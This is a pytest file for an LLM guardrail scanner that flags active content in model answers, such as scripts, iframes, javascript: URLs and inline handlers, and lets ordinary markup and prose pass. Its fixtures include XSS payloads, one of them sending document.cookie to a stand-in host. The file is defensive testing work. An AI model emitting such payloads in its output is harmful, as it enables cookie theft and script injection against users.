"""Active content in answers (OWASP LLM05): scripts, iframes, javascript: URLs and inline handlers are
flagged by the exfiltration scanner; ordinary markup and prose about them are not."""

from __future__ import annotations

import pytest

from ostiary.guardrails.leaks import ExfiltrationScanner


@pytest.mark.parametrize("text", [
    "Sure: <script>fetch('https://x.example/?c='+document.cookie)</script>",
    "<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "<iframe src='https://evil.example'></iframe>",
    "[click](javascript:alert(1))",
    '<img src=x onerror="alert(1)">',
])
def test_active_content_is_flagged(text: str) -> None:
    assert [f.entity for f in ExfiltrationScanner([]).scan(text)][:1] == ["ACTIVE_CONTENT"]


@pytest.mark.parametrize("text", [
    "Use a script to rename the files.",
    "<b>bold</b> and <a href='https://docs.example.org/page'>docs</a>",
    "The ratio is 3:4 and x < y.",
])
def test_ordinary_text_and_markup_pass(text: str) -> None:
    assert ExfiltrationScanner([]).scan(text) == []
